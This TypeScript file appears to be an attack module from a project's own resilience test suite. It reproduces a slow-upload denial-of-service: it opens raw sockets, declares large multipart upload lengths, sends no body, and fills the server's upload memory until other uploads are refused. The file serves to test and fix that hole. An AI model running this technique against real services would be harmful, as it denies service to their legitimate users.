/**
 * Slow uploads (issue 33): multipart `POST /files` that declare a large length and send nothing
 * after their headers, from each of the attacker's workspaces (one deployment each). The server
 * holds an upload's declared length in its upload memory (gateway/http/upload-memory.ts) until
 * the request ends, so the attacker fills that budget greedily: uploads of the largest length
 * the route takes while they are held, then half that, down to 64 bytes, until nothing more
 * fits. At 4102d34 two workspaces held the whole 512 MiB for 300 s, and every other upload on
 * the server was refused. The ordinary tenant uploads a small file every second in this phase.
 */
import net from 'node:net';
import { errorName, round, Tally, type AttackJob, type AttackReport, type HostileAttack } from '../attack';

/** The largest upload the route takes: FILES_MAX_BYTES (100 MiB) and its form's overhead (64 KiB). */
const LARGEST = 100 * 1024 * 1024 + 64 * 1024;
const SMALLEST = 64;
/** An upload not refused within this is held (a refusal comes before anything is read). */
const REFUSED_WITHIN_MS = 750;

interface Held { socket: net.Socket; bytes: number; answered: string | null }

class SlowUploads implements HostileAttack {
  private readonly uploads: Held[] = [];
  private readonly answers = new Tally();
  private stopped = false;
  private startedAt = 0;

  constructor(private readonly job: AttackJob) {}

  async go(): Promise<void> {
    this.startedAt = performance.now();
    const deadline = performance.now() + this.job.rampMs;
    for (let size = LARGEST; size >= SMALLEST && !this.stopped && performance.now() < deadline;) {
      const held = await Promise.all(this.job.target.keys.map((key, index) => this.attempt(key, this.job.target.deployments[index]!.slug, size)));
      if (!held.some(Boolean)) size = Math.floor(size / 2);
    }
  }

  /** One upload declaring `bytes`: true when it is held (no answer within REFUSED_WITHIN_MS). */
  private attempt(key: string, slug: string, bytes: number): Promise<boolean> {
    return new Promise((resolve) => {
      const socket = net.connect({ host: '127.0.0.1', port: this.job.target.port });
      const upload: Held = { socket, bytes, answered: null };
      this.uploads.push(upload);
      const settle = (answer: string | null) => {
        if (upload.answered !== null) return;
        upload.answered = answer;
        if (answer !== null) {
          this.answers.add(answer);
          socket.destroy();
        }
      };
      let timer: NodeJS.Timeout | undefined;
      socket.on('data', (chunk: Buffer) => {
        clearTimeout(timer);
        settle(chunk.toString('latin1', 0, 200).split('\r\n')[0].replace(/^HTTP\/1\.1 /, ''));
        resolve(false);
      });
      socket.on('error', (error) => {
        clearTimeout(timer);
        settle(`error ${errorName(error)}`);
        resolve(false);
      });
      socket.on('close', () => {
        clearTimeout(timer);
        if (!this.stopped) settle('closed by the server');
        resolve(false);
      });
      socket.once('connect', () => {
        socket.write(`POST /d/${slug}/v1/files HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer ${key}\r\n` +
          `Content-Type: multipart/form-data; boundary=held\r\nContent-Length: ${bytes}\r\n\r\n`);
        timer = setTimeout(() => resolve(upload.answered === null), REFUSED_WITHIN_MS);
      });
    });
  }

  async stop(): Promise<AttackReport> {
    this.stopped = true;
    const seconds = (performance.now() - this.startedAt) / 1000;
    const held = this.uploads.filter((upload) => upload.answered === null && !upload.socket.destroyed);
    for (const upload of this.uploads) upload.socket.destroy();
    this.answers.add('held at the end', held.length);
    return {
      achieved: {
        'workspaces': this.job.target.keys.length,
        'uploads held at the end': held.length,
        'MiB declared by held uploads (what the server holds for them)': round(held.reduce((sum, upload) => sum + upload.bytes, 0) / 2 ** 20),
        'bytes sent after the headers': 0,
      },
      answers: this.answers.counts, seconds: round(seconds),
    };
  }
}

export function slowUploads(job: AttackJob): HostileAttack {
  return new SlowUploads(job);
}
